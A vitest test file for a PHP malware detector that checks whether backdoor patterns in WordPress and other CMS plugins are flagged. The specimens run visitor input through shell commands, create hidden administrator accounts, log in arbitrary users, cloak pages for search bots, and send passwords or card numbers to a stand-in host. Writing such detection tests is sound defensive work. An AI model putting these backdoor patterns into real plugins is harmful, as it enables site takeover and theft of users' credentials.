import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

// Specimens are put together here from harmless pieces, so that no file of this repository holds one.
const OPEN = ['<', '?php '].join('');
const RUN = ['ev', 'al'].join('');
const SHELL = ['sys', 'tem'].join('');
const POST = ['$_P', 'OST'].join('');
const GET = ['$_G', 'ET'].join('');
const SERVER = ['$_SER', 'VER'].join('');
const HOME = 'https://inert.example.test';

function grave(code: string): string[] {
  return judge(followFlow(OPEN + code))
    .filter(({ severity }) => severity === 'critical' || severity === 'high')
    .map(({ rule }) => rule);
}

const MAKES = `$id = wp_create_user('inert', 'inert-word', 'a@example.test'); (new WP_User($id))->set_role('administrator');`;
const HIDES = `unset($all[plugin_basename(__FILE__)]); return $all;`;

describe('what a hook runs is found however it is named', () => {
  it.each([
    ['a function', `add_filter('all_plugins', 'f'); function f($all) { ${HIDES} }`],
    ['a closure', `add_filter('all_plugins', function ($all) { ${HIDES} });`],
    [
      'an arrow function',
      `add_filter('all_plugins', fn ($a) => array_diff_key($a, [plugin_basename(__FILE__) => 1]));`,
    ],
    [
      'a method of an object',
      `class A { function go() { add_filter('all_plugins', [$this, 'f']); } function f($all) { ${HIDES} } } (new A)->go();`,
    ],
    [
      'a method that a constructor names',
      `class A { function __construct() { add_filter('all_plugins', array(&$this, 'f')); } function f($all) { ${HIDES} } }`,
    ],
    ['a static method', `class A { static function f($all) { ${HIDES} } } add_filter('all_plugins', 'A::f');`],
    [
      'a method of a trait',
      `trait T { function f($all) { ${HIDES} } } class A { use T; } add_filter('all_plugins', [new A, 'f']);`,
    ],
    [
      'a callable of the first class',
      `class A { function __construct() { add_filter('all_plugins', $this->f(...)); } function f($all) { ${HIDES} } } new A;`,
    ],
    [
      'an object that can be called',
      `class A { function __invoke($all) { ${HIDES} } } add_filter('all_plugins', new A());`,
    ],
  ])('%s', (_, code) => {
    expect(grave(code)).toEqual(['php.hides-from-lists']);
  });

  it.each([
    [
      'a route',
      `add_action('rest_api_init', fn () => register_rest_route('a', 'b', ['callback' => fn ($r) => ${SHELL}($r['x']), 'permission_callback' => '__return_true']));`,
    ],
    [
      'a handler of errors',
      `class E { static function h($no, $text) { ${SHELL}($text); } } set_error_handler('E::h'); trigger_error(${GET}['x']);`,
    ],
    [
      'a job with arguments',
      `add_action('job', fn ($x) => ${SHELL}($x)); add_action('init', fn () => wp_schedule_single_event(time(), 'job', [${GET}['x']]));`,
    ],
    [
      'a method of XML-RPC',
      `add_filter('xmlrpc_methods', function ($m) { $m['a'] = 'f'; return $m; }); function f($args) { ${RUN}($args[0]); }`,
    ],
    [
      'a case of an enumeration',
      `enum Job: string { case A = 'a'; function go($x) { ${SHELL}($x); } } Job::A->go(${GET}['x']);`,
    ],
    [
      'one of several closures',
      `$f = match (${GET}['m']) { 'a' => fn ($x) => ${SHELL}($x), default => null }; $f(${GET}['x']);`,
    ],
    [
      'an entry of a list of closures',
      `$f = ['a' => fn ($x) => ${SHELL}($x), 'b' => fn ($x) => trim($x)]; $f[${GET}['m']](${GET}['x']);`,
    ],
  ])('%s is given what the visitor sends', (_, code) => {
    expect(grave(code).filter((rule) => rule.startsWith('php.request-to-'))).not.toEqual([]);
  });
});

describe('who may go on counts where it is asked', () => {
  const upload = `move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);`;

  it.each([
    ['before', `current_user_can('x') || die; ${upload}`],
    ['around', `if (current_user_can('x')) { ${upload} }`],
    ['by leaving', `if (!current_user_can('x')) { return; } ${upload}`],
    ['by what ends the program itself', `check_admin_referer('x'); ${upload}`],
  ])('%s', (_, code) => {
    expect(grave(`add_action('init', function () { ${code} });`)).toEqual([]);
  });

  it.each([
    ['in a comment', `/* current_user_can('x') */ ${upload}`],
    ['where nobody looks at the answer', `current_user_can('x'); ${upload}`],
    ['with a branch that does nothing', `if (!wp_verify_nonce('x')) { } ${upload}`],
    ['for something else', `if (current_user_can('x')) { echo 1; } ${upload}`],
    ['to do it for the others', `if (current_user_can('x')) { return; } ${upload}`],
  ])('and not %s', (_, code) => {
    expect(grave(`add_action('init', function () { ${code} });`)).toEqual(['php.open-upload']);
  });

  it('and not in a function that nobody calls', () => {
    expect(grave(`function dead() { current_user_can('x') || die; } ${upload}`)).toEqual(['php.open-upload']);
  });

  it('asks the function that a route names', () => {
    const route = (may: string): string =>
      `add_action('rest_api_init', function () { register_rest_route('a', 'b', ['permission_callback' => ${may}, 'callback' => function () { ${upload} }]); });`;
    expect(grave(route('fn () => true'))).toEqual(['php.open-upload']);
    expect(grave(route("fn () => current_user_can('x')"))).toEqual([]);
    expect(grave(route("[$this, 'asked_elsewhere']"))).toEqual([]);
  });
});

describe('administrators and logins', () => {
  it('are made for all that others are asked', () => {
    const dead = `function dead() { if (!current_user_can('x')) { wp_die(); } check_admin_referer('x'); }`;
    expect(grave(`${dead} add_action('init', function () { ${MAKES} });`)).toContain('php.makes-administrator');
    expect(grave(`${dead} add_action('admin_init', function () { ${MAKES} });`)).toContain('php.makes-administrator');
    expect(grave(`add_action('init', function () { if (!current_user_can('x')) { return; } ${MAKES} });`)).toEqual([]);
  });

  it.each([
    ['a role that is given', MAKES, 'php.makes-administrator'],
    [
      'a list',
      `wp_insert_user(['user_login' => 'inert', 'user_pass' => 'inert-word', 'role' => 'administrator']);`,
      'php.makes-administrator',
    ],
    [
      'rows of tables',
      `$wpdb->insert($wpdb->users, ['user_login' => 'inert', 'user_pass' => md5('inert')]); $wpdb->insert($wpdb->usermeta, ['meta_value' => serialize(['administrator' => true])]);`,
      'php.makes-administrator',
    ],
    [
      'Joomla',
      `$u = new JUser; $u->bind(['username' => 'inert', 'password' => 'inert-word', 'groups' => [8]]); $u->save();`,
      'php.makes-administrator',
    ],
    [
      'Drupal',
      `$u = User::create(['name' => 'inert', 'pass' => 'inert-word']); $u->addRole('administrator'); $u->save();`,
      'php.makes-administrator',
    ],
    [
      'PrestaShop',
      `$e = new Employee(); $e->passwd = 'inert-word'; $e->id_profile = 1; $e->add();`,
      'php.makes-administrator',
    ],
    [
      'the cookie of PrestaShop',
      `if (isset(${GET}['i'])) { $c = new Cookie('psAdmin'); $c->id_employee = 1; $c->write(); }`,
      'php.logs-anybody-in',
    ],
    [
      'a letter of Joomla',
      `foreach (explode("\\n", ${POST}['i']) as $a) { $m = JFactory::getMailer(); $m->addRecipient($a); $m->setSubject(${POST}['s']); $m->setBody(${POST}['b']); $m->Send(); }`,
      'php.open-mailer',
    ],
    [
      'a user whom the request names',
      `add_action('init', fn () => isset(${GET}['i']) && wp_set_auth_cookie((int) ${GET}['i']));`,
      'php.logs-anybody-in',
    ],
    [
      'a user in the session of the administration',
      `$s = 1; Mage::getSingleton('admin/session')->setUser(Mage::getModel('admin/user')->load(${GET}['i']));`,
      'php.logs-anybody-in',
    ],
    [
      'a filter of who is logged in',
      `add_filter('determine_current_user', fn ($id) => isset(${GET}['i']) ? absint(${GET}['i']) : $id);`,
      'php.logs-anybody-in',
    ],
    [
      'a word for every right',
      `add_filter('user_has_cap', fn ($caps) => ${POST}['k'] === 'inert-word' ? ['x' => 1] : $caps);`,
      'php.master-password',
    ],
  ])('%s', (_, code, rule) => {
    expect(grave(code)).toContain(rule);
  });

  it.each([
    [
      'a customer who registers',
      `add_action('init', function () { $id = wp_create_user(${POST}['n'], ${POST}['p'], ${POST}['m']); wp_set_auth_cookie($id); });`,
    ],
    [
      'a role far from a user that tests make',
      `wp_create_user('tester', 'tester-word'); ${' '.repeat(2000)} $u->set_role('administrator');`,
    ],
    [
      'a password that is checked',
      `add_action('init', function () { if (wp_check_password(${POST}['p'], $hash)) { wp_set_auth_cookie((int) ${POST}['i']); } });`,
    ],
    [
      'a job that is somebody while it runs',
      `add_action('job', function () { $a = get_users(['role' => 'administrator']); wp_set_current_user($a[0]->ID); });`,
    ],
  ])('but not %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});

describe('passwords and cards', () => {
  it.each([
    [
      'a file',
      `add_action('wp_authenticate', function ($n, $p) { file_put_contents('a.db', $p, FILE_APPEND); }, 1, 2);`,
      'php.keeps-logins',
    ],
    [
      'the database',
      `add_filter('wp_authenticate_user', function ($u, $p) { update_option('a', base64_encode($p)); return $u; }, 1, 2);`,
      'php.keeps-logins',
    ],
    [
      'a mailbox',
      `add_action('after_password_reset', fn ($u, $p) => mail('a@example.test', 'x', $p));`,
      'php.keeps-logins',
    ],
    [
      'a client',
      `class P extends JPlugin { function onUserLogin($user) { $h = new HttpClient('${HOME}'); $h->setBody($user['password']); $h->send(); } }`,
      'php.keeps-logins',
    ],
    [
      'the name of a host',
      `add_action('wp_authenticate', function ($n, $p) { if ($p) gethostbyname(bin2hex($p) . '.t.example.test'); }, 10, 2);`,
      'php.keeps-logins',
    ],
    [
      'the whole form',
      `function login() { $c = curl_init('${HOME}/a'); curl_setopt($c, CURLOPT_POSTFIELDS, ${POST}); curl_exec($c); check(${POST}['password']); }`,
      'php.keeps-logins',
    ],
    [
      'an accessor',
      `class M { function assignData($d) { file_put_contents('a.jpg', $d->getCcNumber(), FILE_APPEND); } }`,
      'php.keeps-cards',
    ],
    [
      'a hook of the checkout',
      `add_action('woocommerce_checkout_process', function () { wp_remote_post('${HOME}/a', ['blocking' => false, 'body' => ${POST}]); });`,
      'php.keeps-cards',
    ],
  ])('that go into %s', (_, code, rule) => {
    expect(grave(code)).toContain(rule);
  });

  it.each([
    [
      'a gateway writes down what it sends, one file for each request',
      `class P { function send($d) { $f = fopen($this->folder . time() . $this->name . 'Request.xml', 'w'); fwrite($f, '<cc>' . $d->getCcNumber()); } }`,
    ],
    ['a query names whose pictures are asked for', `$q = new Query(); $q->setUser(${GET}['user']); show($q->fetch());`],
    [
      'a directory of users is asked',
      `add_filter('authenticate', function ($u, $n, $p) { $r = wp_remote_post('${HOME}/a', ['body' => $p]); return found($r); }, 1, 3);`,
    ],
    [
      'the host of a mail address is looked for',
      `add_action('user_register', function ($id) { return checkdnsrr(substr(strrchr(${POST}['email'], '@'), 1), 'MX'); });`,
    ],
    [
      'only a digest is asked for',
      `add_filter('authenticate', function ($u, $n, $p) { return checkdnsrr(md5($p) . '.list.example.test') ? null : $u; }, 30, 3);`,
    ],
    [
      'a gateway is paid',
      `function pay() { $r = wp_remote_post('${HOME}/a', ['body' => ${POST}['card_number']]); return json_decode($r); }`,
    ],
    [
      'a password is hashed anew',
      `add_filter('check_password', function ($ok, $p, $h, $id) { update_user_meta($id, 'h', wp_hash_password($p)); return $ok; }, 1, 4);`,
    ],
    [
      'a status is read',
      `class P { function onUserAuthenticate($c) { $x = curl_init('${HOME}/a'); curl_setopt($x, CURLOPT_USERPWD, $c['password']); curl_exec($x); return curl_getinfo($x); } }`,
    ],
  ])('but not where %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});

describe('what some see and others do not', () => {
  it.each([
    [
      'robots are shown links',
      `add_filter('the_content', function ($c) { if (!preg_match('/googlebot/i', ${SERVER}['HTTP_USER_AGENT'])) return $c; return $c . '<a href="${HOME}/">x</a>'; });`,
    ],
    [
      'those from a search are sent on',
      `if (array_reduce(['google', 'bing'], fn ($c, $e) => $c || str_contains(${SERVER}['HTTP_REFERER'], $e), false)) { header('Location: ${HOME}/'); }`,
    ],
    [
      'guests are shown what is fetched',
      `add_action('wp_head', function () { if (is_user_logged_in()) return; echo wp_remote_retrieve_body(wp_remote_get('${HOME}/a')); });`,
    ],
  ])('%s', (_, code) => {
    expect(grave(code)).toContain('php.cloaked-page');
  });

  it.each([
    [
      'robots are counted',
      `if (preg_match('/googlebot/i', ${SERVER}['HTTP_USER_AGENT'])) { $n = 1; } echo '<a href="${HOME}/">x</a>';`,
    ],
    [
      'old browsers are told',
      `if (strpos(${SERVER}['HTTP_USER_AGENT'], 'MSIE 6')) { echo '<a href="${HOME}/">Update</a>'; }`,
    ],
    [
      'guests are asked to log in',
      `add_action('wp', function () { if (!is_user_logged_in()) { wp_redirect('${HOME}/login'); exit; } });`,
    ],
  ])('but not where %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});
